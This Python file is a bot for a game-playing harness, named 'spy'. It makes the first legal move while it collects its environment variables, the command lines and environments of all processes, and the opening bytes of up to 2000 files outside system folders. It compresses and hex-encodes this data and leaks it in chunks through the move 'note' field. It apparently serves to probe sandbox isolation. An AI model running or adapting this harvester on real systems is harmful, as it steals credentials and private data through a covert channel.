"""Plays the first legal action, and reports in its notes, piece by piece, all that it can see, over and over.

That is what it was started with; the processes, with their command lines and environments; and the files
outside of the system's folders, with the beginnings of what they hold, unless its argument is `near`.
"""

import os
import sys
import zlib
from collections.abc import Iterator
from pathlib import Path

from protocol.bot import Decision, run

PIECE_BYTES = 1900  # in hexadecimal twice as many: a note holds 4096
FILE_BYTES = 4096
MOST_FILES = 2000
SYSTEM = (
    "/usr",
    "/bin",
    "/sbin",
    "/lib",
    "/lib64",
    "/proc",
    "/sys",
    "/dev",
    "/etc",
    sys.prefix,
    sys.base_prefix,
)

ITSELF = os.urandom(4).hex()


def own_circumstances() -> list[object]:
    descriptors = {str(path): link(path) for path in Path("/proc/self/fd").iterdir()}
    return [sys.argv, dict(os.environ), str(Path.cwd()), descriptors, content(Path("/proc/self/cmdline"))]


def processes() -> list[object]:
    folders = [*Path("/proc").glob("[0-9]*")]
    return [[content(f / "cmdline"), content(f / "environ"), link(f / "cwd")] for f in folders]


def files() -> list[object]:
    found: list[object] = []
    for folder, folders, names in os.walk("/"):
        folders[:] = [name for name in folders if str(Path(folder, name)) not in SYSTEM]
        found += [(str(Path(folder, name)), content(Path(folder, name))) for name in names]
        if len(found) > MOST_FILES:
            break
    return found


def link(path: Path) -> str:
    try:
        return str(path.readlink())
    except OSError:
        return ""


def content(path: Path) -> bytes:
    try:
        with path.open("rb") as file:
            return b"" if path.suffix in (".py", ".pyc") else file.read(FILE_BYTES)
    except OSError:
        return b""


def pieces() -> Iterator[dict[str, object]]:
    number = 0
    while True:
        report = zlib.compress(
            repr([own_circumstances(), processes(), [] if "near" in sys.argv else files()]).encode()
        )
        for start in range(0, len(report), PIECE_BYTES):
            yield {"spy": ITSELF, "report": number, "data": report[start : start + PIECE_BYTES].hex()}
        number += 1


PIECES = pieces()


def choose(decision: Decision) -> int:
    decision.note = next(PIECES)
    return 0


run(choose, name="spy", send=[])
